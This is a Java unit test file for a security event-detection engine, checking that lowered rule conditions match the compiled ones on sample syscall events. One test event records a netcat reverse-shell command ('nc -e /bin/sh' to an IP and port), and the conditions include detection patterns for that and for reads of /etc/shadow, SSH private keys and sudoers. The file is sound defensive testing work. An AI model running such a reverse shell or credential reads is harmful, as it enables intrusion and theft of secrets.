package dev.peregrine.engine.condition;

import static dev.peregrine.collector.event.StandardFields.CONTAINER_PRIVILEGED;
import static dev.peregrine.collector.event.StandardFields.EVT_SOURCE;
import static dev.peregrine.collector.event.StandardFields.EVT_TYPE;
import static dev.peregrine.collector.event.StandardFields.FD_NAME;
import static dev.peregrine.collector.event.StandardFields.FD_NUM;
import static dev.peregrine.collector.event.StandardFields.PROC_ARGS;
import static dev.peregrine.collector.event.StandardFields.PROC_NAME;
import static org.assertj.core.api.Assertions.assertThat;

import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.event.FieldRegistry;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class DirectTestsTest {

    private static final ConditionCompiler COMPILER = new ConditionCompiler(FieldRegistry.standard());

    private static EventPredicate compile(final String condition) {
        final ConditionCompiler.Result result = COMPILER.compile(condition, ConditionScope.empty());
        assertThat(result.errors()).as(condition).isEmpty();
        return result.predicate();
    }

    private static Event.Builder syscall(final String type) {
        return Event.builder().time(1L).set(EVT_SOURCE, "syscall").set(EVT_TYPE, type);
    }

    /** Events that hit each kind of test and miss it: missing fields, empty text, look-alike paths. */
    private static List<Event> events() {
        return List.of(
                syscall("openat").set(FD_NAME, "/etc/shadow").set(FD_NUM, 3L).set(PROC_NAME, "cat").build(),
                syscall("openat").set(FD_NAME, "/etc/shadow.bak").set(FD_NUM, -1L).set(PROC_NAME, "sshd").build(),
                syscall("openat").set(FD_NAME, "/home/dev/.ssh/id_rsa").set(FD_NUM, 4L).build(),
                syscall("openat").set(FD_NAME, "/tmp/build/out.o").set(FD_NUM, 5L).set(PROC_NAME, "cc").build(),
                syscall("openat").set(FD_NAME, "/tmp/a").set(PROC_NAME, "python3").build(),
                syscall("openat").set(FD_NAME, "/etc/sudoers").set(FD_NUM, 3L).build(),
                syscall("openat").set(FD_NAME, "").build(),
                syscall("openat").set(FD_NAME, "/tmp/build").set(PROC_NAME, "cc").build(),
                syscall("execve").set(PROC_NAME, "nc").set(PROC_ARGS, "-e /bin/sh 10.0.0.1 4444")
                        .set(CONTAINER_PRIVILEGED, true).build(),
                syscall("execve").set(PROC_NAME, "ncat").set(PROC_ARGS, "--help").set(CONTAINER_PRIVILEGED, false).build(),
                syscall("execve").set(PROC_NAME, "Grep").set(PROC_ARGS, "BEGIN RSA PRIVATE KEY").build(),
                syscall("execve").build(),
                Event.builder().time(2L).build());
    }

    private static final List<String> CONDITIONS = List.of(
            "fd.name = /etc/shadow",
            "fd.name != /etc/shadow",
            "fd.name in (/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/group, /etc/passwd, /etc/hosts, /etc/gshadow)",
            "fd.name in (/etc/shadow, /etc/sudoers)",
            "fd.name intersects (/etc/shadow, /nothing)",
            "fd.name contains .ssh",
            "fd.name startswith /etc",
            "fd.name endswith id_rsa",
            "fd.name icontains SHADOW",
            "fd.name glob '/home/*/.ssh/*'",
            "fd.name pmatch (/etc, /tmp/build)",
            "fd.name exists",
            "fd.name regex '/etc/sh.*'",
            "fd.num >= 0",
            "fd.num = 3",
            "fd.num != 3",
            "fd.num in (3, 4)",
            "container.privileged = true",
            "container.privileged != true",
            "proc.name = nc and (proc.args contains ' -e' or proc.args contains '-e ')",
            // an or of text tests on one field, with other tests between them and kinds mixed
            "fd.name startswith /etc/ or proc.name = sshd or fd.name endswith id_rsa or fd.name = /tmp/a"
                    + " or fd.name contains /build/ or fd.name in (/etc/sudoers, /x)",
            "fd.name startswith /nothing or fd.name endswith .nothing or fd.name in (/etc/shadow)",
            "not (fd.name startswith /etc or fd.name startswith /home)",
            "fd.name != /etc/shadow or fd.name startswith /tmp",
            "fd.name intersects (/etc/shadow) or fd.name startswith /tmp",
            "proc.name in (grep, egrep) or proc.name icontains grep or proc.name startswith gr",
            "evt.type = openat and (fd.name startswith /etc or fd.name startswith /home) and not proc.name in (sshd, cat)",
            "proc.aname = bash or fd.name startswith /home or fd.name endswith .conf");

    @Test
    void loweredConditionsAnswerEveryEventAsTheCompiledOnesDo() {
        final List<EventPredicate> compiled = CONDITIONS.stream().map(DirectTestsTest::compile).toList();
        final List<EventPredicate> lowered = DirectTests.lower(compiled);
        int held = 0;
        for (int c = 0; c < CONDITIONS.size(); c++) {
            for (final Event event : events()) {
                final boolean expected = compiled.get(c).test(event);
                assertThat(lowered.get(c).test(event)).as(CONDITIONS.get(c) + " on " + event).isEqualTo(expected);
                held += expected ? 1 : 0;
            }
        }
        // the events exercise both answers, so agreement is not agreement on "false"
        assertThat(held).isBetween(40, CONDITIONS.size() * events().size() - 40);
    }

    private static DirectTests.Node lowered(final String condition) {
        return ((DirectTests.Lowered) DirectTests.lower(List.of(compile(condition))).get(0)).root();
    }

    @Test
    void textTestsOnOneFieldInAnOrBecomeOneNode() {
        final DirectTests.Node lowered = lowered(
                "fd.name startswith /etc/ or proc.name = sshd or fd.name endswith id_rsa or fd.name = /tmp/a");

        assertThat(lowered).isInstanceOf(DirectTests.Any.class);
        assertThat(((DirectTests.Any) lowered).parts()).extracting(Object::getClass)
                .containsExactly(DirectTests.TextAnyOf.class, DirectTests.TextEquals.class);
    }

    @Test
    void anAndTestsTheMostSelectivePartsFirstEachReadingItsSlotDirectly() {
        final DirectTests.Node lowered = lowered("fd.num >= 0 and container.privileged = true"
                + " and not proc.name in (sshd) and fd.name contains x and fd.name glob '/a*' and proc.name = cat"
                + " and proc.aname = bash");

        assertThat(((DirectTests.All) lowered).parts()).extracting(Object::getClass).containsExactly(
                DirectTests.TextEquals.class, DirectTests.TextContains.class, DirectTests.SlotTest.class,
                DirectTests.LongCompare.class, DirectTests.BoolEquals.class, DirectTests.Compiled.class,
                DirectTests.Not.class);
    }

    @Test
    void aMacroSharedByRulesIsStillEvaluatedOncePerEventAfterLowering() {
        final EventPredicate body = compile("fd.name startswith /etc or fd.name startswith /home");
        final ConditionScope scope = new ConditionScope() {
            @Override
            public Optional<MacroLookup> macro(final String name) {
                return "sensitive".equals(name) ? Optional.of(MacroLookup.of(body)) : Optional.empty();
            }

            @Override
            public Optional<List<String>> list(final String name) {
                return Optional.empty();
            }
        };
        final List<EventPredicate> rules = new ArrayList<>();
        for (final String condition : List.of("sensitive and proc.name = cat", "sensitive and proc.name = sshd")) {
            rules.add(COMPILER.compile(condition, scope).predicate());
        }
        final List<EventPredicate> specialized = Specialization.specialize(rules, List.of());

        final List<EventPredicate> lowered = DirectTests.lower(specialized);

        final DirectTests.Node first = memoPart(lowered.get(0));
        final DirectTests.Node second = memoPart(lowered.get(1));
        assertThat(first).isSameAs(second);
        assertThat(((DirectTests.Memo) first).body()).isInstanceOf(DirectTests.TextAnyOf.class);
        final Event shadow = events().get(0);
        assertThat(lowered.get(0).test(shadow)).isTrue();
        assertThat(lowered.get(1).test(shadow)).isFalse();
        assertThat(Map.of("cat", lowered.get(0).test(events().get(1)), "sshd", lowered.get(1).test(events().get(1))))
                .containsEntry("cat", false).containsEntry("sshd", true);
    }

    private static DirectTests.Node memoPart(final EventPredicate rule) {
        return ((DirectTests.All) ((DirectTests.Lowered) rule).root()).parts().stream()
                .filter(DirectTests.Memo.class::isInstance).findFirst().orElseThrow();
    }
}
